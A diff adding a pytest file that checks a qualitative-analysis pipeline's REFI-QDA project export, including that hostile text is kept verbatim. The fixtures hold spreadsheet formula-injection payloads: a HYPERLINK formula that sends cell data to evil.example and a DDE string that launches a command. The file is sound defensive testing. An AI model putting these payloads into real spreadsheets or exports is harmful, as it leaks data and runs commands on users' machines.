@@ -1,0 +1,233 @@
+"""Hand-offs (#25): the REFI-QDA project and codebook, and the reference lists, read back by
+maintained third-party readers (pyrefiqda's schema-generated REFI-QDA models, rispy,
+bibtexparser), on a small store with hostile text and on the bundled corpus."""
+
+from __future__ import annotations
+
+import csv
+import xml.etree.ElementTree as ET
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from pipelines import store
+from pipelines.analysis.results import annotate_theme, rename_theme, themes_with_edits
+from pipelines.analysis.run import run_analysis
+from pipelines.cli import main
+from pipelines.embed.embedders import HashEmbedder, embed_missing
+from pipelines.handoff.common import xml_text
+from pipelines.ingest.files import ingest_paths
+
+ROOT = Path(__file__).resolve().parent.parent
+NS = {"q": "urn:QDA-XML:project:1.0"}
+PER_FIELD = 24
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example","x") <b>Recovery</b> & "desistance" {50%} \\o/'
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click") recovery means hope & <identity> ]]>',
+    "+cmd|' /C calc'!A0 recovery housing work {braces} and 100% of #people",
+    "@SUM(1+1) peer support \U0001f600 with an emoji and a quote's end",
+]
+# Written into the store directly: ingest drops control characters, but a store filled by
+# another route (or an older version) may hold them, and XML cannot.
+CONTROL_TEXT = "control\x01characters\x0b in\x1f text\r\nacross a CRLF recovery"
+
+
+def _small_corpus(folder: Path) -> tuple[Path, Path]:
+    """The first excerpts of each field of the bundled corpus, their sources, and a hostile source."""
+    with open(ROOT / "corpus" / "excerpts.csv", encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    kept, per_field = [], {}
+    for row in rows:
+        if per_field.get(row["field"], 0) < PER_FIELD:
+            per_field[row["field"]] = per_field.get(row["field"], 0) + 1
+            kept.append(row)
+    for i, text in enumerate(HOSTILE_TEXTS):
+        kept.append(
+            {
+                "id": f"=evil{i}",
+                "source_id": "evil",
+                "field": "criminal_justice",
+                "kind": "",
+                "page": "",
+                "text": text,
+            }
+        )
+    with open(ROOT / "corpus" / "sources.csv", encoding="utf-8", newline="") as handle:
+        reader = csv.DictReader(handle)
+        columns = reader.fieldnames
+        wanted = {r["source_id"] for r in kept}
+        sources = [r for r in reader if r["source_id"] in wanted]
+    sources.append(
+        {c: "" for c in columns}
+        | {
+            "source_id": "evil",
+            "authors": "=Evil, A.; O'Brien, B. & {Co}",
+            "year": "2020",
+            "title": HOSTILE_TITLE,
+            "venue": "@Journal <of> Tests",
+            "evidence_type": "grey",
+        }
+    )
+    excerpts_path, sources_path = folder / "excerpts.csv", folder / "sources.csv"
+    for path, fieldnames, data in (
+        (excerpts_path, list(kept[0]), kept),
+        (sources_path, columns, sources),
+    ):
+        with open(path, "w", encoding="utf-8", newline="") as handle:
+            writer = csv.DictWriter(handle, fieldnames=fieldnames)
+            writer.writeheader()
+            writer.writerows(data)
+    return excerpts_path, sources_path
+
+
+@pytest.fixture(scope="module")
+def small(tmp_path_factory):
+    """A small built store: a few bundled excerpts per field, a hostile source, a renamed theme
+    with a hostile note, and one excerpt holding control characters."""
+    folder = tmp_path_factory.mktemp("handoff")
+    path = folder / "store.sqlite"
+    conn = store.connect(path)
+    excerpts_path, sources_path = _small_corpus(folder)
+    ingest_paths(conn, [excerpts_path], sources_path=sources_path)
+    embedder = HashEmbedder()
+    embed_missing(conn, embedder)
+    run_analysis(conn, embedder=embedder, frameworks=None, seed=3)
+    theme = themes_with_edits(conn)[0][0]
+    rename_theme(conn, theme.key, "=SUM(A1) <renamed> & \x02")
+    annotate_theme(conn, theme.key, 'Note with <xml> & "quotes" ]]> =HYPERLINK("x")')
+    target = conn.execute("SELECT id FROM excerpts ORDER BY id LIMIT 1").fetchone()[0]
+    with store.transaction(conn):
+        conn.execute("UPDATE excerpts SET text = ? WHERE id = ?", (CONTROL_TEXT, target))
+    return path
+
+
+def _export(db: Path, what: str, out: Path, *extra: str) -> Path:
+    assert main(["export", what, "--db", str(db), "--out", str(out), *extra]) == 0
+    return out
+
+
+def _selections(qdpx: Path) -> dict[str, tuple[str, list[str]]]:
+    """Selection name -> (its text cut from its source's file, the names of its codes)."""
+    with zipfile.ZipFile(qdpx) as archive:
+        root = ET.fromstring(archive.read("project.qde"))
+        codes = {c.get("guid"): c.get("name") for c in root.iterfind(".//q:Code", NS)}
+        out = {}
+        for source in root.iterfind(".//q:TextSource", NS):
+            member = source.get("plainTextPath").removeprefix("internal://")
+            text = archive.read(f"sources/{member}").decode("utf-8")
+            for sel in source.iterfind("q:PlainTextSelection", NS):
+                start, end = int(sel.get("startPosition")), int(sel.get("endPosition"))
+                names = [codes[c.get("targetGUID")] for c in sel.iterfind("q:Coding/q:CodeRef", NS)]
+                out[sel.get("name")] = (text[start:end], names)
+    return out
+
+
+def test_every_selection_is_its_excerpt_coded_with_its_themes_and_concepts(small, tmp_path):
+    qdpx = _export(small, "project", tmp_path / "study.qdpx")
+    conn = store.connect(small)
+    frame = store.excerpts(conn)
+    fine = {t.key: t.label for t in themes_with_edits(conn, level=2)[0]}
+    broad = {t.key: t.label for t in themes_with_edits(conn, level=1)[0]}
+    _, fine_of = themes_with_edits(conn, level=2)
+    _, broad_of = themes_with_edits(conn, level=1)
+    selections = _selections(qdpx)
+    assert len(selections) == len(frame)
+    for row in frame.itertuples():
+        text, code_names = selections[row.external_id]
+        assert text == xml_text(row.text)
+        assert xml_text(fine[fine_of[str(row.excerpt_id)]]) in code_names
+        assert xml_text(broad[broad_of[str(row.excerpt_id)]]) in code_names
+    hostile = [selections[f"=evil{i}"][0] for i in range(len(HOSTILE_TEXTS))]
+    assert hostile == HOSTILE_TEXTS  # kept verbatim: a QDA project runs no formulas
+    assert "control" in selections[frame.iloc[0]["external_id"]][0]
+    assert "\x01" not in selections[frame.iloc[0]["external_id"]][0]
+
+
+def test_a_schema_driven_reader_loads_the_project(small, tmp_path):
+    from pyrefiqda import RefiProject
+
+    qdpx = _export(small, "project", tmp_path / "study.qdpx")
+    project = RefiProject.load(qdpx, extract_dir=str(tmp_path / "extracted"))
+    conn = store.connect(small)
+    n_sources = conn.execute("SELECT COUNT(DISTINCT source_id) FROM excerpts").fetchone()[0]
+    assert len(project.sources.text_source) == n_sources
+    top = {c.name: c for c in project.code_book.codes.code}
+    assert "Themes" in top and not top["Themes"].is_codable
+    broad = top["Themes"].code
+    assert broad and all(c.is_codable for c in broad)
+    assert sum(len(b.code) for b in broad) == len(themes_with_edits(conn, level=2)[0])
+    chime = next(c for c in top.values() if "CHIME" in c.name)
+    assert chime.code and all(c.description for c in chime.code)
+    names = {v.name for v in project.variables.variable}
+    assert {"Field", "Evidence type", "Year"} <= names
+    cases = {c.name for c in project.cases.case}
+    assert "Field: Mental health" in cases and "Evidence: Grey literature" in cases
+    notes = project.notes.note
+    assert len(notes) == 1 and "]]>" in notes[0].plain_text_content
+    evil = next(s for s in project.sources.text_source if "evil.example" in s.name)
+    assert evil.name.endswith(HOSTILE_TITLE)
+
+
+def test_guids_are_stable_across_exports_of_the_same_run(small, tmp_path):
+    first = _export(small, "project", tmp_path / "a.qdpx")
+    second = _export(small, "project", tmp_path / "b.qdpx")
+    assert first.read_bytes() == second.read_bytes()
+    guids = [
+        e.get("guid") for e in ET.fromstring(zipfile.ZipFile(first).read("project.qde")).iter()
+    ]
+    guids = [g for g in guids if g]
+    assert len(guids) > 100
+    # Every GUID names one thing (the user is defined once and referred to elsewhere).
+    assert len(set(guids)) == len(guids)
+
+
+def test_a_failed_export_leaves_the_previous_file(small, tmp_path, monkeypatch):
+    from pipelines.handoff import common
+
+    out = _export(small, "project", tmp_path / "study.qdpx")
+    before = out.read_bytes()
+
+    def broken(src, dst):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(common.os, "replace", broken)
+    assert main(["export", "project", "--db", str(small), "--out", str(out)]) == 1
+    assert out.read_bytes() == before
+    assert [p.name for p in tmp_path.iterdir()] == ["study.qdpx"]  # no temporary file left
+
+
+def test_xml_text_drops_what_xml_cannot_carry():
+    assert xml_text("a\x00b\x08c\x0bd\x1fe\ufffef\ud800g") == "abcdefg"
+    assert xml_text("keep\ttab\nline\r\nend\rx") == "keep\ttab\nline\nend\nx"
+    assert xml_text("\U0001f600 <&>") == "\U0001f600 <&>"
+
+
+@pytest.mark.slow
+def test_the_bundled_corpus_exports_as_a_project(tmp_path):
+    from pyrefiqda import RefiProject
+
+    db = tmp_path / "store.sqlite"
+    assert (
+        main(
+            [
+                "ingest",
+                "--db",
+                str(db),
+                str(ROOT / "corpus" / "excerpts.csv"),
+                "--sources",
+                str(ROOT / "corpus" / "sources.csv"),
+            ]
+        )
+        == 0
+    )
+    assert main(["build", "--db", str(db), "--model", "hash-256"]) == 0
+    qdpx = _export(db, "project", tmp_path / "study.qdpx")
+    frame = store.excerpts(store.connect(db))
+    selections = _selections(qdpx)
+    assert len(selections) == len(frame)
+    for row in frame.itertuples():
+        assert selections[row.external_id][0] == row.text
+        assert len(selections[row.external_id][1]) >= 2  # a fine and a broad theme at least
+    project = RefiProject.load(qdpx, extract_dir=str(tmp_path / "extracted"))
+    assert len(project.sources.text_source) == frame["source_id"].nunique()
